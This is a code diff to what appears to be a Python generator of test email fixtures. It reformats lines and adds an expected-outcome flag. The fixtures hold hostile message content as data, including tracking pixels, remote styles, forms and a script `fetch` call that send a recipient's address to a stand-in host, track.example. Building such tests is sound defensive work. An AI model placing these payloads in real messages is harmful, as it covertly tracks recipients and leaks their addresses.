@@ -3,6 +3,8 @@
 `{to}` in the octets stands for the alias that the agency writes to.
 """
 
+# ruff: noqa: E501 - a row is a whole hostile message, or a table of signs
+
 from __future__ import annotations
 
 import base64
@@ -25,12 +27,21 @@ _PIXEL = "https://track.example/open.gif?id=77"
 PAGES = (
     ("tracking pixel", '<img src="{p}" width=1 height=1>'),
     ("remote picture", '<img src="https://track.example/logo.png" srcset="https://track.example/logo2.png 2x" alt="">'),
-    ("remote style", '<link rel=stylesheet href="https://track.example/s.css"><style>@import "https://track.example/t.css"; p{{background:url({p})}}</style>'),
+    (
+        "remote style",
+        '<link rel=stylesheet href="https://track.example/s.css"><style>@import "https://track.example/t.css"; p{{background:url({p})}}</style>',
+    ),
     ("background", '<table background="{p}"><tr><td style="background-image:url({p})">x</td></tr></table>'),
-    ("video, audio, object", '<video poster="{p}" src="{p}"></video><audio src="{p}"></audio><object data="{p}"></object><embed src="{p}">'),
+    (
+        "video, audio, object",
+        '<video poster="{p}" src="{p}"></video><audio src="{p}"></audio><object data="{p}"></object><embed src="{p}">',
+    ),
     ("iframe", '<iframe src="{p}"></iframe>'),
     ("svg picture", '<svg><image href="{p}"/><use href="{p}"/></svg>'),
-    ("reply form", '<form action="https://track.example/form" method=post><input name=answer value="{a}"><input type=submit></form>'),
+    (
+        "reply form",
+        '<form action="https://track.example/form" method=post><input name=answer value="{a}"><input type=submit></form>',
+    ),
     ("reply form by mail", '<form action="mailto:{a}"><textarea name=x>{a}</textarea></form>'),
     ("script", '<script src="https://track.example/s.js"></script><script>fetch("{p}&m={a}")</script>'),
     ("refresh", '<meta http-equiv=refresh content="1;url={p}">'),
@@ -51,12 +62,28 @@ def make(maker: Maker) -> None:
     def staff() -> str:
         return maker.address("agencies.example")
 
-    def add(where: str, raw: bytes, hidden: str, honest: tuple[str, ...] = (BEFORE, AFTER)) -> None:
-        maker.add("answer", where, raw.replace(b"dmv@intake.example", b"{to}", 1), writer=mailbox, hidden=hidden, honest=honest)
+    def add(
+        where: str, raw: bytes, hidden: str, honest: tuple[str, ...] = (BEFORE, AFTER), expect: str = "accept"
+    ) -> None:
+        maker.add(
+            "answer",
+            where,
+            raw.replace(b"dmv@intake.example", b"{to}", 1),
+            writer=mailbox,
+            hidden=hidden,
+            honest=honest,
+            expect=expect,
+        )
 
     for name, value in HEADERS:
         address = staff()
-        add(name, mail(mailbox, body("Yes."), headers=[(name, value.format(a=address))], name="DMV"), address)
+        expect = "hold_ok" if name == "Received" else "accept"  # what came over another server needs a signature
+        add(
+            name,
+            mail(mailbox, body("Yes."), headers=[(name, value.format(a=address))], name="DMV"),
+            address,
+            expect=expect,
+        )
     for where, template in PAGES:
         address = staff()
         page = f"<html><body><p>{BEFORE}</p>{template.format(a=address, p=_PIXEL)}<p>{AFTER}</p></body></html>"
@@ -85,13 +112,31 @@ def make(maker: Maker) -> None:
             f"UID:{address}\nSUMMARY:Hearing\nDTSTART:20250303T101200Z\nLOCATION:Room 7\nX-ALT-DESC;FMTTYPE=text/html:<img src={_PIXEL}>\n"
             f"URL:https://track.example/join?m={address}\nBEGIN:VALARM\nACTION:EMAIL\nATTENDEE:mailto:{address}\nEND:VALARM\nEND:{kind}\nEND:VCALENDAR\n"
         )
-        content, octets = multipart([part(f"{BEFORE}\n{AFTER}\n"), part(entry, f"text/calendar; method={method}")], "alternative")
+        content, octets = multipart(
+            [part(f"{BEFORE}\n{AFTER}\n"), part(entry, f"text/calendar; method={method}")], "alternative"
+        )
         add(f"calendar {method} beside the text", mail(address, octets, content, "7bit"), address)
-        content, octets = multipart([part(f"{BEFORE}\n{AFTER}\n"), part(folded64(entry.encode()), "text/calendar", "base64", "Content-Disposition: attachment; filename=i.ics\r\n")])
+        content, octets = multipart(
+            [
+                part(f"{BEFORE}\n{AFTER}\n"),
+                part(
+                    folded64(entry.encode()),
+                    "text/calendar",
+                    "base64",
+                    "Content-Disposition: attachment; filename=i.ics\r\n",
+                ),
+            ]
+        )
         add(f"calendar {method} attached", mail(address, octets, content, "7bit"), address)
         add(f"calendar {method} alone", mail(address, entry, f"text/calendar; method={method}"), address, ())
-    for where, kind, name in (("vCard", "text/vcard", "{a}.vcf"), ("picture", "image/png", "{a}.png"), ("message", "message/rfc822", "{a}.eml")):
+    for where, kind, name in (
+        ("vCard", "text/vcard", "{a}.vcf"),
+        ("picture", "image/png", "{a}.png"),
+        ("message", "message/rfc822", "{a}.eml"),
+    ):
         address = staff()
         more = f'Content-Disposition: attachment; filename="{name.format(a=address)}"\r\nContent-ID: <{address}>\r\n'
-        content, octets = multipart([part(f"{BEFORE}\n{AFTER}\n"), part(f"From: {address}\r\n\r\n{address}", kind, "7bit", more)])
+        content, octets = multipart(
+            [part(f"{BEFORE}\n{AFTER}\n"), part(f"From: {address}\r\n\r\n{address}", kind, "7bit", more)]
+        )
         add(f"{where} attached", mail(address, octets, content, "7bit"), address)
